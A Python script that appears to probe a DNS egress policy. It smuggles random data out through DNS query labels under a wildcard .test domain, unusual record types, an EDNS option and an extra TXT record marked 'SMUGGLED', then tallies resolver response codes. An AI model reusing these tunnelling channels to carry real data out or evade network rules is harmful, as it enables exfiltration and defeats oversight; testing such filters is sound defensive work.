"""Moves what it can out through DNS: in labels under an allowed wildcard, in the types that it asks for, in everything of a packet
that is not the question, and under names that no rule allows.

In:  "long" or "many", how the labels are cut. Out: one line of JSON: answers by code.
"""
import base64, collections, json, os, socket, struct, sys

MARK = b"SMUGGLED"
PLAIN = (1, 28, 64, 65)
OTHER = (2, 5, 10, 12, 15, 16, 33, 43, 48, 255, 65280)
LENGTH, NAMES = {"long": (180, 300), "many": (7, 2300)}[sys.argv[1]]
codes = collections.Counter()


def question(name, kind, label=b""):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    option = struct.pack(">HH", 65001, len(MARK)) + MARK
    extra = b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option
    record = label + struct.pack(">HHIH", 16, 1, 0, len(MARK) + 1) + bytes([len(MARK)]) + MARK if label else b""
    counts = struct.pack(">HHHH", 1, 0, 0, 2 if label else 1)
    return MARK[:2] + b"\x01\0" + counts + labels + b"\0" + struct.pack(">HH", kind, 1) + extra + record


def ask(name, kind, label=b""):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect(("8.8.8.8", 53))
        s.send(question(name, kind, label))
        return s.recv(2048)[3] & 15


def text(turn, length):
    data = base64.b32encode(os.urandom(length)).decode().lower().rstrip("=")
    whole = f"{turn:x}x{data}"[:length]
    return ".".join(whole[at : at + 60] for at in range(0, length, 60))


for turn in range(NAMES):
    codes[ask(f"{text(turn, LENGTH)}.wild.test", PLAIN[turn % len(PLAIN)])] += 1
for kind in OTHER:
    codes[f"type {ask('fixed.test', kind)}"] += 1
codes[f"record {ask('fixed.test', 1, bytes([0]))}"] += 1
codes[f"case {ask('FIXED.tEsT', 1)}"] += 1
for name in ("payload.fixed.test", "payload.other.test", "payload"):
    codes[f"name {ask(name, 1)}"] += 1
print(json.dumps(codes))
